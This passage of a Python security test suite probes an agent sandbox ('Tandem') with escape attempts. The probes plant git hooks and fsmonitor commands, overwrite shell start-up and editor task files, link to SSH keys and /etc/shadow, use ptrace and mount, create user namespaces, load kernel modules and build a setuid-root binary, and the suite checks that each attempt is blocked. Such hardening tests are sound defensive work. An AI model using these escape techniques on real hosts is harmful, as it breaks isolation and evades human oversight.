        "DISPLAY unset, /tmp is private, --unshare-net for the abstract socket")
def x11_display(ctx):
    if not shutil.which("Xvfb"):
        raise Skip("Xvfb is not installed")
    if os.environ.get("TANDEM_ATTACK_PRIVATE_MOUNTS"):
        # Where no X server ran yet, the folder is made as Xvfb would make it.
        if not os.path.isdir("/tmp/.X11-unix"):
            os.mkdir("/tmp/.X11-unix")
            os.chmod("/tmp/.X11-unix", 0o1777)
        ctx.mask("/tmp/.X11-unix")  # our display's socket stays in our own mount namespace
    number = free_display()
    server = ctx.start_host_process(["Xvfb", f":{number}", "-nolisten", "tcp", "-screen", "0",
                                     "320x200x24"])
    path = f"/tmp/.X11-unix/X{number}"
    deadline = time.monotonic() + 10
    while not os.path.exists(path):
        if server.poll() is not None or time.monotonic() > deadline:
            raise Broken(f"Xvfb :{number} did not start")
        time.sleep(0.05)
    ctx.on_cleanup(lambda: stop_x_server(server, number))
    # The X11 connection set-up, little-endian, protocol 11.0, no authorisation.
    hello = "l\0\x0b\0\0\0\0\0\0\0\0\0"
    ws = ctx.workspace()
    result = ctx.probe(ws, SOCKET_PROBE, {"sockets": [[path, hello], ["\0" + path, hello]],
                                       "env": ["DISPLAY", "XAUTHORITY"],
                                       "commands": [["xdpyinfo", "-display", f":{number}"]]},
                       extra_env={"DISPLAY": f":{number}"})
    ctx.require_blocked(result, "X11")


@attack("engine_sockets", "drive the host's Podman or Docker engine through its socket "
        "(rootless and rootful paths, DOCKER_HOST)", "no engine socket mounted, --clearenv")
def engine_sockets(ctx):
    paths = [os.path.join(ctx.runtime_dir, "podman", "podman.sock"),
             os.path.join(ctx.root, "docker.sock")]
    if ctx.backend == "bwrap" and os.environ.get("TANDEM_ATTACK_PRIVATE_MOUNTS"):
        ctx.mask("/run")  # our own /run, so that the real engines' sockets stay untouched
        paths += ["/run/docker.sock", "/run/podman/podman.sock"]
    recorders = [ctx.add_recorder(UnixRecorder(f"engine socket {p}", p)) for p in paths]
    extra = {}
    if ctx.backend == "bwrap":
        extra["DOCKER_HOST"] = f"unix://{paths[1]}"
    ping = "GET /_ping HTTP/1.0\r\nHost: d\r\n\r\n"
    ws = ctx.workspace()
    result = ctx.probe(ws, SOCKET_PROBE, {"sockets": [[p, ping] for p in paths] +
                                          [["/var/run/docker.sock", ping]],
                                          "env": ["DOCKER_HOST"]}, extra_env=extra)
    ctx.require_blocked(result, "engine sockets")
    ctx.require_silent(*recorders)


KEYRING_PROBE = r'''
KEYCTL_SEARCH, KEYCTL_READ, KEYCTL_JOIN = 10, 11, 1
SESSION, USER = -3, -4
def read_key(keyring):
    key = syscall(250, KEYCTL_SEARCH, keyring, ctypes.c_char_p(b"user"),
                  ctypes.c_char_p(ARGS["description"].encode()), 0)
    buffer = ctypes.create_string_buffer(4096)
    size = syscall(250, KEYCTL_READ, key, buffer, 4096)
    return buffer.raw[:size].decode("latin-1")
attempt("read the host's key from the session keyring", lambda: read_key(SESSION))
attempt("read the host's key from the user keyring", lambda: read_key(USER))
attempt("keyctl join a new session keyring", lambda: syscall(250, KEYCTL_JOIN, None))
attempt("add_key to the user keyring",
        lambda: syscall(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(MARK.encode()),
                        ctypes.c_char_p(b"x"), 1, USER))
'''


@attack("session_keyring", "read a secret from the kernel keyring the product's session "
        "holds, and use keyctl at all", "a new session keyring per sandbox; later seccomp on "
        "keyctl/add_key/request_key")
def session_keyring(ctx):
    description = f"tandem-canary-{ctx.digits}"
    # A fresh keyring for this runner only, so nothing of the machine's is touched.
    if libc.syscall(250, 1, None) < 0:
        raise Skip("keyctl is not available here")
    key = libc.syscall(248, b"user", description.encode(), ctx.secret.encode(),
                       len(ctx.secret), -3)
    if key < 0:
        raise Broken("cannot add a key to the runner's session keyring")
    ctx.on_cleanup(lambda: libc.syscall(250, 3, key))  # KEYCTL_REVOKE
    ws = ctx.workspace()
    result = ctx.probe(ws, KEYRING_PROBE, {"description": description})
    ctx.require_blocked(result, "keyring")


# =============================================================================================
# The file system: outside the workspace, links, git and start-up files, descriptors, devices

WRITE_PROBE = r'''
def create(folder):
    path = os.path.join(folder, MARK + ".txt")
    with open(path, "x") as f:
        f.write("written from the sandbox\n")
    return path
def open_for_append(path):
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))  # nothing is written
    return "opened for writing"
for folder in ARGS["folders"]:
    attempt("create a file in " + folder, lambda: create(folder))
for path in ARGS["files"]:
    attempt("open for writing " + path, lambda: open_for_append(path))
# The sandbox's own /tmp is scratch space: writing there is allowed, but must not reach the host.
try:
    say("SCRATCH", create("/tmp"))
except OSError as e:
    say("SCRATCH /tmp not writable", e)
'''


@attack("write_outside", "write outside the workspace: /, /usr, /etc, /root, /home, /opt, "
        "/var/tmp, the user's home, Tandem's data folder, the workspace's parent, and open "
        "system files for writing", "--remount-ro / and read-only system binds")
def write_outside(ctx):
    ws = ctx.workspace()
    folders = ["/", "/usr", "/usr/local/bin", "/etc", "/root", "/home", "/opt", "/var/tmp",
               "/workspace/..", ctx.home, ctx.data_dir, ctx.root, ctx.host_dir]
    files = ["/etc/passwd", "/etc/hosts", "/usr/bin/python3", "/etc/ld.so.cache",
             os.path.join(ctx.host_dir, "secret.txt")]
    result = ctx.probe(ws, WRITE_PROBE, {"folders": folders, "files": files})
    ctx.require_blocked(result, "writes outside the workspace")


PLANT_LINKS_PROBE = r'''
for name, target in ARGS["links"]:
    attempt(f"plant {name} -> {target}", lambda: os.symlink(target, name) or "planted")
    say("BLOCKED", name, "is only a link so far")
'''

FOLLOW_LINKS_PROBE = r'''
for path in ARGS["reads"]:
    attempt("read " + path, lambda: read_text(path))
for path in ARGS["writes"]:
    def write(path=path):
        with open(path, "a") as f:
            f.write("written through a link from the sandbox\n")
        return "written"
    attempt("write through " + path, write)
'''


@attack("symlink_for_host", "plant links in the workspace for the host to follow later "
        "(.git -> a folder beside the workspace, links to ~/.ssh, /etc/shadow, the data "
        "folder), then come back and read or write through them",
        "the host never follows workspace links when it builds the next sandbox (lstat, "
        "not stat); nothing outside is bound")
def symlink_for_host(ctx):
    # A folder beside the workspace whose name also exists inside the sandbox: if the host
    # binds `.git` by following the link, this folder shows up inside.
    beside = os.path.join(ctx.root, "tmp")
    os.makedirs(beside)
    with open(os.path.join(beside, "secret.txt"), "w") as f:
        f.write(f"beside the workspace {ctx.secret}\n")
    ctx.extra_watched(beside)
    ws = ctx.workspace()
    links = [[".git", "../tmp"],
             ["to-ssh-key", os.path.join(ctx.home, ".ssh", "id_ed25519")],
             ["to-shadow", "/etc/shadow"],
             ["to-settings", os.path.join(ctx.config_home, "tandem", "settings.json")],
             ["to-host-dir", ctx.host_dir],
             [".envrc", os.path.join(ctx.host_dir, "secret.txt")]]
    ctx.probe(ws, PLANT_LINKS_PROBE, {"links": links})
    reads = [".git/secret.txt", "/tmp/secret.txt", "to-ssh-key", "to-shadow", "to-settings",
             "to-host-dir/secret.txt", ".envrc"]
    writes = ["to-host-dir/secret.txt", "to-settings", ".envrc"]
    second = ctx.probe(ws, FOLLOW_LINKS_PROBE, {"reads": reads, "writes": writes},
                       allow_sandbox_failure=True, completes=False)
    if second.returncode == 125:
        print(f"NOTE: the planted links stop the next command from starting: "
              f"{second.raw_stderr.strip()}")
        return
    ctx.require_completed(second)
    # The planted .envrc link was removed after the first command; writing ".envrc" again
    # makes a new file inside, which the product removes when the command ends.
    ctx.require_blocked(second, "links planted for the host",
                        undone=[("write through .envrc", ".envrc")])


HARD_LINK_PROBE = r'''
for index, source in enumerate(ARGS["sources"]):
    attempt("hard link " + source, lambda: os.link(source, f"hard-{index}-{MARK}") or "linked")
def link_descriptor(source):
    fd = os.open(source, os.O_RDONLY)
    AT_FDCWD, AT_EMPTY_PATH = -100, 0x1000
    if libc.linkat(fd, b"", AT_FDCWD, f"hard-fd-{MARK}".encode(), AT_EMPTY_PATH) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "linked"
attempt("linkat(AT_EMPTY_PATH) /etc/passwd", lambda: link_descriptor("/etc/passwd"))
attempt("link through /proc/self/fd",
        lambda: os.link(f"/proc/self/fd/{os.open('/etc/passwd', os.O_RDONLY)}",
                        f"hard-proc-{MARK}", follow_symlinks=True) or "linked")
'''


@attack("hard_links", "hard-link files from outside the workspace into it (to change them "
        "later, or to have the host act on them)", "separate mounts (EXDEV), no "
        "CAP_DAC_READ_SEARCH, protected_hardlinks")
def hard_links(ctx):
    ws = ctx.workspace()
    secret_file = os.path.join(ctx.host_dir, "secret.txt")
    sources = ["/etc/passwd", "/usr/bin/python3", "/etc/ld.so.cache", secret_file,
               "/workspace/../etc/passwd"]
    result = ctx.probe(ws, HARD_LINK_PROBE, {"sources": sources})
    outside = {}
    for path in ["/etc/passwd", os.path.realpath("/usr/bin/python3"), "/etc/ld.so.cache",
                 secret_file]:
        info = os.stat(path)
        outside[(info.st_dev, info.st_ino)] = path
    for name in os.listdir(ws):
        info = os.lstat(os.path.join(ws, name))
        if (info.st_dev, info.st_ino) in outside:
            raise Escaped(f"{name} in the workspace is a hard link to "
                          f"{outside[(info.st_dev, info.st_ino)]}")
    ctx.require_blocked(result, "hard links")


GIT_PROBE = r'''
hook = "#!/bin/sh\ntouch " + ARGS["host_marker"] + "\n"
def write(path, text, mode="w"):
    with open(path, mode) as f:
        f.write(text)
    return "written"
for name in ("pre-commit", "post-commit", "post-checkout", "pre-push", "fsmonitor-watchman"):
    path = ".git/hooks/" + name
    attempt("write " + path, lambda: write(path, hook) or os.chmod(path, 0o755) or "written")
attempt("append to .git/config", lambda: write(".git/config",
        "[core]\n\tfsmonitor = touch " + ARGS["host_marker"] + "\n\thooksPath = .githooks\n", "a"))
attempt("write .git/info/attributes", lambda: write(".git/info/attributes", "* filter=x\n"))
attempt("rewrite .git/HEAD", lambda: write(".git/HEAD", "ref: refs/heads/evil\n"))
attempt("git config core.hooksPath",
        lambda: subprocess.run(["git", "config", "core.hooksPath", ".githooks"],
                               check=True, capture_output=True) and "set")
attempt("rename .git away", lambda: os.rename(".git", ".git-old") or "renamed")
attempt("remove .git/config", lambda: os.unlink(".git/config") or "removed")
os.makedirs(".githooks", exist_ok=True)
write(".githooks/pre-commit", hook)
os.chmod(".githooks/pre-commit", 0o755)
'''


@attack("git_metadata", "plant git hooks and config (hooks, core.fsmonitor, core.hooksPath, "
        "attributes, HEAD) for the host's next git command", "the workspace's .git bound "
        "read-only")
def git_metadata(ctx):
    ws = ctx.workspace(git=True)
    git_dir = os.path.join(ws, ".git")
    before = tree_digest(git_dir, ("objects", "logs"))
    host_marker = os.path.join(ctx.root, f"HOOK_RAN-{ctx.mark}")
    result = ctx.probe(ws, GIT_PROBE, {"host_marker": host_marker})
    if tree_digest(git_dir, ("objects", "logs")) != before:
        raise Escaped(f"the sandbox changed .git:\n{result.describe()}")
    # What the host would do next: look at the status and commit the agent's work.
    env = dict(os.environ, HOME=ctx.home, GIT_CONFIG_NOSYSTEM="1", GIT_AUTHOR_NAME="t",
               GIT_AUTHOR_EMAIL="t@example.test", GIT_COMMITTER_NAME="t",
               GIT_COMMITTER_EMAIL="t@example.test")
    for args in (["status"], ["commit", "-q", "--allow-empty", "-m", "review"]):
        subprocess.run(["git", *args], cwd=ws, env=env, capture_output=True, timeout=30)
    if os.path.exists(host_marker):
        raise Escaped("a hook or config planted by the sandbox ran on the host")
    ctx.require_blocked(result, ".git")


START_UP_PROBE = r'''
payload = "touch " + ARGS["host_marker"] + "\n"
def append(path):
    with open(path, "a") as f:
        f.write(payload)
    return "appended"
def replace(path):
    with open(path + ".new", "w") as f:
        f.write(payload)
    os.rename(path + ".new", path)
    return "replaced"
def remove(path):
    os.unlink(path)
    return "removed"
def create(path):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "x") as f:
        f.write(payload)
    return "created"
for path in ARGS["existing"]:
    attempt("append to " + path, lambda: append(path))
    attempt("replace " + path, lambda: replace(path))
    attempt("remove " + path, lambda: remove(path))
for path in ARGS["missing"]:
    attempt("create " + path, lambda: create(path))
def move_folder():
    os.rename(".vscode", ".vscode-old")
    return create(".vscode/tasks.json")
attempt("move .vscode away and write a new tasks.json", move_folder)
'''


@attack("start_up_files", "write shell start-up and editor task files in the workspace "
        "(.bashrc, .profile, .envrc, .vscode/tasks.json, ...), existing or new",
        "the policy's denied paths: masked read-only where they exist, creation refused "
        "where they do not")
def start_up_files(ctx):
    existing = {".bashrc": "# the project's\n", ".profile": "# the project's\n",
                ".envrc": "export A=1\n", ".vscode/tasks.json": "{}\n",
                ".vscode/settings.json": "{}\n"}
    missing = [".zshrc", ".bash_profile", ".zshenv", ".vscode/launch.json",
               ".idea/workspace.xml"]
    ws = ctx.workspace(git=True, files=existing)
    digests = {p: tree_digest(os.path.join(ws, p)) for p in list(existing) + missing}
    host_marker = os.path.join(ctx.root, f"STARTUP_RAN-{ctx.mark}")
    result = ctx.probe(ws, START_UP_PROBE, {"existing": list(existing), "missing": missing,
                                            "host_marker": host_marker})
    changed = [p for p, d in digests.items() if tree_digest(os.path.join(ws, p)) != d]
    if changed:
        raise Escaped(f"the sandbox changed files the host runs later: {', '.join(changed)}\n"
                      f"{result.describe()}")
    # A missing file cannot be masked without creating it on the host: the product may let it
    # be created inside, as long as it is gone when the command ends, with a word about it.
    undone = [("create " + path, path) for path in missing]
    undone.append(("move .vscode away", ".vscode/tasks.json"))
    ctx.require_blocked(result, "start-up files", undone=undone, workspace=ws)


REPO_POLICY_PROBE = r'''
wider = {"filesystem": {"readWrite": ["/", ARGS["home"]]},
         "network": {"allow": ["*", "127.0.0.1:" + str(ARGS["port"])]},
         "limits": {"wallTime": "100h", "processes": 100000}}
def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        json.dump(wider, f)
    return "written"
attempt("rewrite .tandem/sandbox.json", lambda: write(".tandem/sandbox.json"))
'''


@attack("repo_policy_widening", "rewrite the repository's .tandem/sandbox.json to widen the "
        "next command's policy (write /, reach a host port)",
        ".tandem masked read-only; the user's policy bounds whatever the repository asks")
def repo_policy_widening(ctx):
    config = ctx.policy()
    ws = ctx.workspace(files={".tandem/sandbox.json": "{}\n"})
    before = tree_digest(os.path.join(ws, ".tandem"))
    first = ctx.probe(ws, REPO_POLICY_PROBE, {"home": ctx.home, "port": ctx.tcp4.port},
                      config=config)
    rewritten = tree_digest(os.path.join(ws, ".tandem")) != before
    # Whether or not the file changed, the next command must not get more than the user allows.
    second = ctx.probe(ws, WRITE_PROBE + LOOPBACK_PROBE,
                       {"folders": ["/", ctx.home], "files": [],
                        "tcp": [["127.0.0.1", ctx.tcp4.port]], "udp": []}, config=config)
    ctx.require_blocked(second, "the next command after widening the repository's policy")
    ctx.require_silent(ctx.tcp4)
    if rewritten:
        raise Escaped(f"the sandbox rewrote .tandem/sandbox.json:\n{first.describe()}")


DESCRIPTOR_PROBE = r'''
listing = os.open("/proc/self/fd", os.O_RDONLY | os.O_DIRECTORY)
fds = sorted(int(n) for n in os.listdir(listing) if int(n) not in (0, 1, 2, listing))
for fd in fds:
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    say("ESCAPED inherited descriptor", fd, "->", target)
    try:
        if os.path.isdir(f"/proc/self/fd/{fd}"):
            for name in os.listdir(f"/proc/self/fd/{fd}"):
                try:
                    say("READ", name, read_text(f"/proc/self/fd/{fd}/{name}")[:200])
                except OSError:
                    pass
        else:
            say("READ", os.pread(fd, 200, 0))
    except OSError as e:
        say("could not use it:", e)
say("BLOCKED", "descriptors other than 0-2:", len(fds))
'''


@attack("inherited_descriptors", "use file descriptors the product inherited (a folder, a "
        "file, a socket) to reach the host from inside", "the product closes every "
        "descriptor but 0-2 before the sandbox starts")
def inherited_descriptors(ctx):
    folder = os.open(ctx.host_dir, os.O_RDONLY | os.O_DIRECTORY)
    secret = os.open(os.path.join(ctx.host_dir, "secret.txt"), os.O_RDONLY)
    pair = socket.socketpair()
    for fd in (folder, secret):
        os.set_inheritable(fd, True)
        ctx.on_cleanup(lambda fd=fd: os.close(fd))
    ctx.on_cleanup(pair[0].close)
    ctx.on_cleanup(pair[1].close)
    ws = ctx.workspace()
    result = ctx.probe(ws, DESCRIPTOR_PROBE, pass_fds=(folder, secret, pair[1].fileno()))
    ctx.require_blocked(result, "inherited descriptors")


DEVICE_PROBE = r'''
for path in ARGS["devices"]:
    def use(path=path):
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
        os.close(fd)
        return "opened"
    attempt("open " + path, use)
def read_planted():
    with open(ARGS["planted"], "rb") as f:
        return f.read(4)
attempt("read the device node planted in the workspace", read_planted)
attempt("mknod a block device in the workspace",
        lambda: os.mknod("disk-" + MARK, 0o600 | 0o060000, os.makedev(253, 0)) or "created")
buffer = ctypes.create_string_buffer(256)
attempt("syslog(SYSLOG_ACTION_READ_ALL) (the kernel log)",
        lambda: syscall(103, 3, buffer, 256) >= 0 and buffer.raw[:60])
'''


@attack("device_nodes", "reach host devices: disks, memory, kernel log, KVM, a device node "
        "planted in the workspace, mknod", "--dev /dev (a minimal /dev), nodev on the "
        "workspace, no CAP_MKNOD or CAP_SYSLOG")
def device_nodes(ctx):
    ws = ctx.workspace()
    planted = os.path.join(ws, "zero")
    os.mknod(planted, 0o666 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero: reading is harmless
    devices = ["/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/port",
               "/dev/kmsg", "/dev/kvm", "/dev/loop-control", "/dev/loop0", "/dev/fuse",
               "/dev/net/tun", "/dev/btrfs-control", "/dev/hwrng", "/dev/cpu/0/msr",
               "/dev/input/event0", "/dev/snd/seq", "/dev/dri/card0"]
    devices = [d for d in devices if os.path.exists(d)]
    result = ctx.probe(ws, DEVICE_PROBE, {"devices": devices, "planted": "zero"})
    ctx.require_blocked(result, "devices")


# =============================================================================================
# The kernel's interfaces: ptrace, mounts, namespaces, bpf, perf, modules, privileges

PTRACE_PROBE = r'''
PTRACE_TRACEME, PTRACE_ATTACH, PTRACE_DETACH, PTRACE_SEIZE = 0, 16, 17, 0x4206
def ptrace(request, pid):
    return syscall(101, request, pid, 0, 0)
child = os.fork()
if child == 0:
    time.sleep(10)
    os._exit(0)
def attach(pid):
    ptrace(PTRACE_ATTACH, pid)
    os.waitpid(pid, 0)
    ptrace(PTRACE_DETACH, pid)
    return "attached"
attempt("PTRACE_ATTACH to another process of the sandbox", lambda: attach(child))
# Seize without stopping: pid 1 is the sandbox's own init (or a supervisor for other commands).
def seize(pid):
    ptrace(PTRACE_SEIZE, pid)
    ptrace(PTRACE_DETACH, pid)
    return "seized"
attempt("PTRACE_SEIZE pid 1", lambda: seize(1))
read_end, write_end = os.pipe()
traced = os.fork()
if traced == 0:
    try:
        ptrace(PTRACE_TRACEME, 0)
        os.write(write_end, b"traced")
    except OSError as e:
        os.write(write_end, f"errno {e.errno}".encode())
    os._exit(0)
os.waitpid(traced, 0)
answer = os.read(read_end, 64).decode()
if answer == "traced":
    say("ESCAPED PTRACE_TRACEME worked")
else:
    say("BLOCKED PTRACE_TRACEME -", answer)
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
target = ctypes.create_string_buffer(b"readable", 16)
local = ctypes.create_string_buffer(16)
def read_other():
    mine = IoVec(ctypes.addressof(local), 8)
    theirs = IoVec(ctypes.addressof(target), 8)
    syscall(310, child, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return local.raw[:8]
attempt("process_vm_readv of another process", read_other)
os.kill(child, 9)
os.waitpid(child, 0)
'''


@attack("ptrace", "ptrace another process in the sandbox (attach, seize pid 1, TRACEME) "
        "and read its memory with process_vm_readv",
        "seccomp: ptrace and process_vm_readv denied")
def ptrace_attack(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, PTRACE_PROBE)
    ctx.require_blocked(result, "ptrace")


MOUNT_PROBE = r'''
MS_RDONLY, MS_REMOUNT, MS_BIND, MNT_DETACH = 1, 32, 4096, 2
def mount(source, target, kind, flags):
    if libc.mount(source.encode(), target.encode(), kind.encode() if kind else None,
                  ctypes.c_ulong(flags), None) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "mounted"
def umount(target):
    if libc.umount2(target.encode(), MNT_DETACH) != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return "unmounted"
os.makedirs("/tmp/m", exist_ok=True)
attempt("mount a tmpfs", lambda: mount("none", "/tmp/m", "tmpfs", 0))
attempt("remount / read-write", lambda: mount("none", "/", None, MS_REMOUNT | MS_BIND))
attempt("remount .git read-write",
        lambda: mount("none", "/workspace/.git", None, MS_REMOUNT | MS_BIND))
attempt("bind the workspace over .git", lambda: mount("/workspace", "/workspace/.git", None,
                                                     MS_BIND))
attempt("unmount .git", lambda: umount("/workspace/.git"))
attempt("unmount /proc", lambda: umount("/proc"))
attempt("pivot_root", lambda: syscall(155, ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp/m")))
attempt("mount proc", lambda: mount("proc", "/tmp/m", "proc", 0))
attempt("open_tree / fsopen", lambda: syscall(430, ctypes.c_char_p(b"tmpfs"), 0))
'''


@attack("mount", "mount, unmount, remount read-write (/ and .git), pivot_root, fsopen",
        "no CAP_SYS_ADMIN in the sandbox's namespace; later seccomp on mount and friends")
def mount_attack(ctx):
    ws = ctx.workspace(git=True)
    before = tree_digest(os.path.join(ws, ".git"), ("objects", "logs"))
    result = ctx.probe(ws, MOUNT_PROBE)
    ctx.require_blocked(result, "mount")
    if tree_digest(os.path.join(ws, ".git"), ("objects", "logs")) != before:
        raise Escaped(".git changed")


USERNS_PROBE = r'''
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET, SIGCHLD = 0x10000000, 0x00020000, 0x40000000, 17
def in_child(flags):
    """unshare() in a child, so that the probe itself stays where it is."""
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            syscall(272, flags)
            os.write(write_end, b"ok")
        except OSError as e:
            os.write(write_end, f"errno {errno.errorcode.get(e.errno)}".encode())
        os._exit(0)
    os.waitpid(pid, 0)
    answer = os.read(read_end, 64).decode()
    if answer != "ok":
        raise OSError(answer)
    return "a new user namespace"
attempt("unshare(CLONE_NEWUSER)", lambda: in_child(CLONE_NEWUSER))
attempt("unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET)",
        lambda: in_child(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET))
def clone_user():
    pid = syscall(56, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "cloned into a new user namespace"
attempt("clone(CLONE_NEWUSER)", clone_user)
def unshare_command():
    done = subprocess.run(["unshare", "-U", "-r", "-m", "sh", "-c", "id -u"],
                          capture_output=True, text=True, timeout=10)
    if done.returncode != 0:
        raise OSError(done.stderr.strip())
    return done.stdout.strip()
attempt("unshare -U -r -m", unshare_command)
'''


@attack("user_namespaces", "create a new user namespace (unshare -U, unshare(2), clone(2) "
        "with CLONE_NEWUSER) to regain capabilities", "bwrap --disable-userns or seccomp on "
        "unshare/clone with CLONE_NEWUSER")
def user_namespaces(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, USERNS_PROBE)
    ctx.require_blocked(result, "user namespaces")


BPF_PROBE = r'''
insns = struct.pack("<BBhi", 0xb7, 0, 0, 0) + struct.pack("<BBhi", 0x95, 0, 0, 0)  # r0 = 0; exit
code = ctypes.create_string_buffer(insns)
license = ctypes.create_string_buffer(b"GPL")
load = ctypes.create_string_buffer(struct.pack("<IIQQIIQ", 1, 2, ctypes.addressof(code),
                                               ctypes.addressof(license), 0, 0, 0) + bytes(80))
attempt("bpf(BPF_PROG_LOAD) socket filter", lambda: syscall(321, 5, load, 120))
create = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1) + bytes(100))
attempt("bpf(BPF_MAP_CREATE) array", lambda: syscall(321, 0, create, 72))
'''


@attack("bpf", "load a BPF program and create a BPF map", "kernel.unprivileged_bpf_disabled; "
        "later seccomp on bpf")
def bpf_attack(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, BPF_PROBE)
    ctx.require_blocked(result, "bpf")


PERF_PROBE = r'''
def open_counter(kind, config, pid, cpu):
    flags = 1 | (1 << 5) | (1 << 6)  # disabled, exclude_kernel, exclude_hv
    attr = ctypes.create_string_buffer(struct.pack("<IIQQQQQ", kind, 128, config, 0, 0, 0,
                                                   flags) + bytes(128 - 48))
    fd = syscall(298, attr, pid, cpu, -1, 0)
    os.close(fd)
    return "counter opened"
attempt("perf_event_open software clock of itself", lambda: open_counter(1, 0, 0, -1))
attempt("perf_event_open task clock of itself", lambda: open_counter(1, 1, 0, -1))
attempt("perf_event_open hardware cycles of itself", lambda: open_counter(0, 0, 0, -1))
attempt("perf_event_open system-wide on cpu 0", lambda: open_counter(1, 0, -1, 0))
'''


@attack("perf_event_open", "open perf counters (side channels, kernel attack surface)",
        "seccomp on perf_event_open (perf_event_paranoid=2 still allows a process's own)")
def perf_event_attack(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, PERF_PROBE)
    ctx.require_blocked(result, "perf_event_open")


MODULES_PROBE = r'''
def privileged(what, call):
    """Only EPERM proves the capability check refused; any other errno means the kernel went
    past it (the arguments are chosen to be invalid, so nothing is loaded or unloaded)."""
    try:
        call()
    except OSError as e:
        if e.errno == errno.EPERM:
            say("BLOCKED", what, "- EPERM")
        elif e.errno == errno.ENOSYS:
            say("UNAVAILABLE", what, "- this kernel has no such call")
        else:
            say("ESCAPED", what, "passed the capability check, then", errno.errorcode.get(e.errno))
        return
    say("ESCAPED", what, "succeeded")
empty = ctypes.create_string_buffer(b"")
privileged("init_module", lambda: syscall(175, empty, 0, ctypes.c_char_p(b"")))
null = os.open("/dev/null", os.O_RDONLY)
privileged("finit_module", lambda: syscall(313, null, ctypes.c_char_p(b""), 0))
module = ctypes.c_char_p(f"tandem_{MARK}".encode())
privileged("delete_module", lambda: syscall(176, module, 0o4000))
privileged("kexec_load", lambda: syscall(246, 0, 0, None, 0x7fff0000))
privileged("kexec_file_load", lambda: syscall(320, -1, -1, 0, None, 0x7fff0000))
privileged("iopl(3)", lambda: syscall(172, 3) or syscall(172, 0))
privileged("swapoff", lambda: syscall(168, ctypes.c_char_p(f"/nonexistent-{MARK}".encode())))
'''


@attack("kernel_modules", "load or remove kernel modules, kexec a new kernel, raise I/O "
        "privilege, swapoff", "no CAP_SYS_MODULE / CAP_SYS_BOOT / CAP_SYS_RAWIO / "
        "CAP_SYS_ADMIN (--cap-drop ALL); later seccomp")
def kernel_modules(ctx):
    ws = ctx.workspace()
    result = ctx.probe(ws, MODULES_PROBE)
    ctx.require_blocked(result, "kernel modules and kexec")


PRIVILEGE_SOURCE = r"""
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void)
{
    uid_t r, e, s;
    getresuid(&r, &e, &s);
    printf("RESUID %d %d %d\n", (int)r, (int)e, (int)s);
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "CapEff", 6) || !strncmp(line, "CapPrm", 6))
            fputs(line, stdout);
    printf("SETUID0 %d\n", setuid(0));
    return 0;
}
"""

PRIVILEGE_PROBE = r'''
def gained(binary):
    done = subprocess.run([binary], capture_output=True, text=True, timeout=10)
    text = done.stdout
    say("RAN", binary, text.replace("\n", " | "))
    real, effective, _ = text.split("RESUID ")[1].split("\n")[0].split()
    capabilities = [l.split()[1] for l in text.splitlines() if l.startswith("Cap")]
    if effective != real or any(int(c, 16) for c in capabilities) or "SETUID0 0" in text:
        return "privileges gained: " + text.replace("\n", " | ")
    raise PermissionError("no privilege gained")
for binary in ARGS["binaries"]:
    attempt("run " + binary, lambda: gained("./" + binary))
PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, CAP_NET_RAW, CAP_SYS_ADMIN = 47, 2, 13, 21
for cap in (CAP_NET_RAW, CAP_SYS_ADMIN):
    attempt(f"raise ambient capability {cap}",
            lambda: syscall(157, PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, cap, 0, 0))
attempt("setuid(0)", lambda: syscall(105, 0))
attempt("setresuid(0, 0, 0)", lambda: syscall(117, 0, 0, 0))
status = read_text("/proc/self/status")
say("STATUS", " ".join(l for l in status.splitlines() if l.startswith(("Cap", "NoNewPrivs"))))
if "CapBnd:\t0000000000000000" not in status:
    say("ESCAPED the bounding set still holds capabilities")
'''


@attack("setuid_capabilities", "regain privileges: a setuid-root binary and a binary with "
        "file capabilities in the workspace, ambient capabilities, setuid(0)",
        "no_new_privs, nosuid workspace, empty bounding set (--cap-drop ALL), uid 0 not "
        "mapped")
def setuid_capabilities(ctx):
    compiler = shutil.which("cc") or shutil.which("gcc")
    if not compiler:
        raise Skip("no C compiler to build the setuid probe")
    ws = ctx.workspace()
    os.chmod(ctx.root, 0o700)  # a setuid-root file must not be reachable by anyone else
    source = os.path.join(ctx.root, "privilege.c")
    with open(source, "w") as f:
        f.write(PRIVILEGE_SOURCE)
    setuid = os.path.join(ws, "setuid-root")
    subprocess.run([compiler, "-O", "-o", setuid, source], check=True, timeout=60)
    os.chown(setuid, 0, 0)
    os.chmod(setuid, 0o4755)
    binaries = ["setuid-root"]
    setcap = shutil.which("setcap") or "/usr/sbin/setcap"
    if os.path.exists(setcap):
        capable = os.path.join(ws, "file-caps")
        shutil.copy(setuid, capable)
        os.chmod(capable, 0o755)
